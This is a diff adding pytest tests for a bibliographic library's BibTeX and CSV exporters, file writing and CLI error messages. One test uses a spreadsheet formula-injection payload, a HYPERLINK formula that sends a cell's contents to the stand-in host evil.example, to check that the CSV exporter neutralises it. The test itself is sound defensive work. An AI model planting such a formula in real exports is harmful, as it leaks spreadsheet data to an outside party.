@@ -37,7 +37,7 @@ from store.export.keys import base_key, citation_keys
 from store.export.medline import LINE_WIDTH, MedlineExporter, medline_date
 from store.export.ris import RisExporter, ris_date, ris_name
 from store.export.table import COLUMNS, MARK_COLUMNS, CsvExporter
-from store.export.write import render
+from store.export.write import render, write_file
 from store.formats.medline import MedlineParser
 from store.library import Library
 from store.marks import Marks
@@ -485,3 +485,70 @@ def test_walk_edge_list_and_dot(tmp_path: Path) -> None:
 
 def test_dot_strings() -> None:
     assert dot_string('say "hi" \\ to\nme') == '"say \\"hi\\" \\\\ to\\nme"'
+
+
+def test_bibtex_braces_names_that_would_split() -> None:
+    """A family name holding " and " (from a CSL-JSON record) or a comma stays one name."""
+    article = Article(
+        pmid="1",
+        title="T",
+        authors=[
+            Author("Smith and Jones", "A", fore="Anna"),
+            Author("Lee", "K", fore="Kim AND Co"),
+            Author("Barr, Jr", "B"),
+            Author("Anderson", "C"),
+        ],
+    )
+    _raw, decoded = _read_bibtex(BibtexExporter().dumps([article]))
+    names = {f.key: f.value for f in decoded.entries[0].fields}["author"]
+    assert len(names) == 4
+    assert [_DECODER.latex_to_text(" ".join(n.last)) for n in names] == [
+        "Smith and Jones",
+        "Lee",
+        "Barr, Jr",
+        "Anderson",
+    ]
+    assert _DECODER.latex_to_text(" ".join(names[1].first)) == "Kim AND Co"
+
+
+def test_csv_neutralises_formulas_unless_raw() -> None:
+    article = Article(
+        pmid="1",
+        title='=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        authors=[Author("+Plus", "A"), Author("Minus", "B")],
+        journal="@Journal",
+        volume="-1",
+        issue="\tTab",
+        pages="\r12",
+    )
+    (row,) = csv.DictReader(io.StringIO(CsvExporter().dumps([article])))
+    assert row["title"] == "'" + article.title
+    assert (row["authors"], row["journal"]) == ("'+Plus A; Minus B", "'@Journal")
+    assert (row["volume"], row["issue"], row["pages"]) == ("'-1", "'\tTab", "'\r12")
+    assert row["pmid"] == "1"
+    (raw,) = csv.DictReader(io.StringIO(CsvExporter(raw=True).dumps([article])))
+    assert raw["title"] == article.title and raw["volume"] == "-1"
+
+
+@pytest.mark.parametrize("target", ["/", ".", "folder"])
+def test_writing_an_export_to_a_folder_is_an_os_error(tmp_path: Path, target: str) -> None:
+    (tmp_path / "folder").mkdir()
+    path = Path(target) if target == "/" else tmp_path / target
+    with pytest.raises(IsADirectoryError):
+        write_file("x", path)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder"]
+
+
+def test_export_errors_are_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from tui.cli import main
+
+    db = str(tmp_path / "library.json")
+    assert main(["--db", db, "stats"]) == 0
+    capsys.readouterr()
+    assert main(["--db", db, "export", "--format", "csv", "--ids", "30992990", "-o", "/"]) == 2
+    _out, err = capsys.readouterr()
+    assert err.count("\n") == 1 and "cannot write /" in err and "nothing was written" in err
+    bad = str(tmp_path / "no such folder" / "a\nb.csv")
+    assert main(["--db", db, "export", "--format", "csv", "--ids", "30992990", "-o", bad]) == 2
+    _out, err = capsys.readouterr()
+    assert err.count("\n") == 1 and "a\u240ab.csv" in err
